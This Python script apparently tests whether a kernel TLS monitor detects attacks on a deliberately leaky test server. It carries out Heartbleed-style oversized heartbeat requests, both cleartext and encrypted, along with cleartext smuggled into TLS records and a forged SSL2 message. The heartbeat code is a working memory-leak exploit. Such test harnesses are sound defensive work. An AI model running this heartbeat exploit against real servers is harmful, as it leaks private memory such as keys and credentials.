#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Attacks the leaky server and prints the outcome, one line per attack.

Prints `ATTACK@HOST OUTCOME`. The outcome is `leaked` or `delivered` when the
attack worked, the reason's name when the kernel log says that this connection was condemned and the
attack missed its goal. Other words mean neither.
"""

import argparse
import os
import select
import socket
import ssl
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from tlslite.api import HandshakeSettings, TLSConnection
from tlslite.constants import ContentType
from tlslite.errors import TLSError

from tlsnet import TIMEOUT, KernelLog, client_of, pending, reset, wait_until

CLAIMED = 0x2000
SERVER_HELLO_DONE = bytes.fromhex("0e000000")


class Attack:
    """One connection to the server, with the kernel log and the server's tap at hand."""

    def __init__(self, host: str, options: argparse.Namespace) -> None:
        self.secret = options.secret.encode()
        self.tap: Path = options.tap
        self.log = KernelLog()
        self.sock = socket.create_connection((host, 443), TIMEOUT)
        self.client = client_of(self.sock)

    def condemned(self) -> bool:
        """Whether the log names this connection."""
        return bool(self.log.about(self.client))

    def wait(self) -> None:
        """Waits until the socket or the log has something new."""
        select.select([self.sock, self.log], [], [], 1)

    def verdict(self, worked: str, goal: Callable[[], bool]) -> str:
        """The outcome of the attack, as soon as goal() or the log decides it."""
        if goal():
            return worked
        if not self.condemned():
            return "nothing"
        return "|".join(line.reason for line in self.log.about(self.client))

    def after_end(self, worked: str, goal: Callable[[], bool]) -> str:
        """The outcome, once the server saw the connection end; tells if it did not."""
        missing = ""
        try:
            self.at_server()
        except TimeoutError as error:
            missing = f", but {error}"
        return self.verdict(worked, goal) + missing

    def at_server(self) -> bytes:
        """All that the server received, known when it saw the connection end."""
        reset(self.sock)
        file = self.tap / str(self.client[1])
        wait_until(file.exists, f"the server's end of {self.client}")
        return file.read_bytes()


def client_hello(version: int) -> bytes:
    """A plain ClientHello with the heartbeat extension."""
    suites = bytes.fromhex("c02fc013009c002f0035000a")
    extensions = bytes.fromhex("000f000101" "000a00080006001d00170018" "000b00020100")
    extensions += bytes.fromhex("000d000e000c040105010601020104030203")
    body = version.to_bytes(2, "big") + os.urandom(32) + b"\0"
    body += len(suites).to_bytes(2, "big") + suites + b"\x01\0"
    body += len(extensions).to_bytes(2, "big") + extensions
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(message).to_bytes(2, "big") + message


def receive_until(attack: Attack, received: bytearray, wanted: bytes) -> None:
    """Reads until the wanted bytes have come, the stream ends, or the log names the connection."""
    end = time.monotonic() + TIMEOUT
    while wanted not in received and not attack.condemned() and time.monotonic() < end:
        attack.wait()
        if select.select([attack.sock], [], [], 0)[0]:
            try:
                data = attack.sock.recv(65536)
            except ConnectionResetError:
                return
            if not data:
                return
            received += data


def leak_in_handshake(attack: Attack) -> str:
    """A heartbeat that claims too much, right after the server's hello, in the clear."""
    received = bytearray()
    attack.sock.sendall(client_hello(0x0303))
    receive_until(attack, received, SERVER_HELLO_DONE)
    attack.sock.sendall(b"\x18\x03\x03\x00\x03\x01" + CLAIMED.to_bytes(2, "big"))
    receive_until(attack, received, attack.secret)
    return attack.after_end("leaked", lambda: attack.secret in received)


class Listener(TLSConnection):  # type: ignore[misc]
    """A TLS client that keeps the heartbeats it gets."""

    def __init__(self, sock: socket.socket) -> None:
        super().__init__(sock)
        self.heartbeats = bytearray()

    def _getNextRecord(self) -> Iterator[Any]:
        for result in super()._getNextRecord():
            if isinstance(result, tuple) and result[0].type == ContentType.heartbeat:
                self.heartbeats += result[1].bytes
                yield 0
            else:
                yield result


class Request:
    """A heartbeat request that claims more than it carries, long enough to look valid."""

    contentType = ContentType.heartbeat

    def write(self) -> bytearray:
        """The message's bytes: no payload, and the padding of a valid one."""
        return bytearray(b"\x01" + CLAIMED.to_bytes(2, "big") + os.urandom(16))


def leak_encrypted(attack: Attack) -> str:
    """The same after a whole handshake, encrypted: only lengths show on the wire."""
    settings = HandshakeSettings()
    settings.maxVersion = (3, 3)
    connection = Listener(attack.sock)
    connection.handshakeClientCert(settings=settings)
    for _ in connection._sendMsg(Request()):
        pass
    attack.sock.setblocking(False)
    reading = connection.readAsync(max=1, min=1)
    end = time.monotonic() + TIMEOUT
    while attack.secret not in connection.heartbeats and time.monotonic() < end:
        if attack.condemned():
            break
        attack.wait()
        try:
            next(reading)
        except (StopIteration, TLSError, OSError):
            break
    return attack.after_end("leaked", lambda: attack.secret in connection.heartbeats)


def smuggle(attack: Attack) -> str:
    """Cleartext in application-data records after a real handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    session = context.wrap_socket(attack.sock)
    session.sendall(b"GET / HTTP/1.1\r\nHost: demo\r\n\r\n")
    session.recv(100)
    # The bare socket again: what follows goes out as it is.
    attack.sock = socket.socket(fileno=session.detach())
    text = b"this should be ciphertext " * 10 + attack.secret
    attack.sock.sendall(b"\x17\x03\x03" + len(text).to_bytes(2, "big") + text)
    return delivered(attack, text)


def ssl2(attack: Attack) -> str:
    """A SERVER-HELLO of SSL 2, from the client."""
    body = (
        b"\x04\x00\x01\x00\x02"
        + bytes.fromhex("000000030010")
        + b"\x01\x00\x80"
        + attack.secret[:16]
    )
    message = (0x8000 | len(body)).to_bytes(2, "big") + body
    attack.sock.sendall(message)
    return delivered(attack, message)


def delivered(attack: Attack, message: bytes) -> str:
    """Whether the server got the whole message, once it or the log has reacted."""
    end = time.monotonic() + TIMEOUT
    while not attack.condemned() and not readable(attack.sock) and time.monotonic() < end:
        attack.wait()
    pending_or_end(attack.sock)
    received = attack.at_server()
    return attack.verdict("delivered", lambda: message in received)


def readable(sock: socket.socket) -> bool:
    """Whether the server answered or closed."""
    return bool(select.select([sock], [], [], 0)[0])


def pending_or_end(sock: socket.socket) -> None:
    """Reads what is there: a reset is an answer, too."""
    try:
        pending(sock)
    except OSError:
        pass


ATTACKS: dict[str, Callable[[Attack], str]] = {
    "leak-in-handshake": leak_in_handshake,
    "leak-encrypted": leak_encrypted,
    "smuggle": smuggle,
    "ssl2": ssl2,
}


def run(attack: str, host: str, options: argparse.Namespace) -> str:
    """The outcome of one attack. A probe that fails itself has none."""
    try:
        return ATTACKS[attack](Attack(host, options))
    except (TLSError, OSError) as error:
        return f"the probe failed: {error!r}"


def main() -> None:
    """Runs the attacks named, one after the other."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--tap", type=Path, required=True)
    parser.add_argument("--secret", required=True)
    parser.add_argument("attacks", nargs="+", metavar="ATTACK@HOST")
    options = parser.parse_args()
    for named in options.attacks:
        attack, _, host = named.partition("@")
        print(named, run(attack, host, options), flush=True)


if __name__ == "__main__":
    main()
